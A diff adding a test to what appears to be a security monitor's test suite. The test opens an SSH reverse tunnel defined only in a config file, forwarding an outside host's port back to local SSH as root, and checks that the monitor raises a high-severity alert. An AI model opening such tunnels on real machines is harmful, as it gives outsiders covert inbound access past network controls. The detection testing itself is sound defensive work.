@@ -242,6 +242,34 @@ def test_gpu_compute_from_a_login_through_the_tunnel(hopper: Path, network: Netw
     assert "ALERT CRITICAL reverse-tunnel-then-gpu-compute" in report and "[scope tunnel: tunnel:" in report
 
 
+def test_a_reverse_tunnel_written_only_in_an_ssh_config_file(network: Network, recorder: Recorder,
+                                                             tmp_path: Path) -> None:
+    """`ssh -fN outside-gw`: the forward, the host and the user are in the -F file alone. The probe
+    reads it at exec time; the tunnel fact and the alert are the argv spelling's, with evidence
+    "config", and the capture carries what was read, so its analysis gives the same."""
+    cfg = tmp_path / "ssh_config"
+    cfg.write_text(f"Host outside-gw\n  HostName {OUTSIDE_IP}\n  User root\n  RemoteForward 9000 localhost:22\n")
+    tunnel = network.gpuhost.run(SSH, "-F", str(cfg), *network.ssh_options, "-fN", "outside-gw")
+    assert tunnel.returncode == 0, tunnel.stderr
+    # the forward is real: the outside comes back in through it
+    back_in = network.outside.run(SSH, *network.ssh_options, "-p", "9000", "root@127.0.0.1", "true")
+    assert back_in.returncode == 0, back_in.stderr
+
+    fact = wait_until(lambda: [t for t in recorder.facts(TunnelFact) if t.remote_host == OUTSIDE_IP],
+                      what="the tunnel fact")[0]
+    assert (fact.tool, fact.reverse, fact.evidence, fact.remote_user, fact.forwards, fact.via) == (
+        "ssh", True, "config", "root", ("reverse 9000 -> localhost:22",), ())
+    alert = wait_until(lambda: recorder.alerts("reverse-tunnel-opened"), what="the tunnel alert")[0]
+    assert alert.severity == "high"
+    assert (alert.steps[0].fields["evidence"], alert.steps[0].fields["forwards"]) == (
+        "config", ["reverse 9000 -> localhost:22"])
+    tunnel_proc = next(p for p in alert.processes if p.exec_id == alert.steps[0].exec_id)
+    assert "-R" not in tunnel_proc.argv and "outside-gw" in tunnel_proc.argv
+
+    recorder.stop()
+    assert "ssh tunnel (reverse) to 198.51.100.1: reverse 9000 -> localhost:22" in analyze(recorder.capture)
+
+
 def test_local_forward_scp_and_training_compute_stay_silent(hopper: Path, ampere: Path, network: Network,
                                                           recorder: Recorder, tmp_path: Path) -> None:
     ssh_l = " ".join([SSH, *network.ssh_options, "-fNL", "18080:localhost:22", f"root@{OUTSIDE_IP}"])
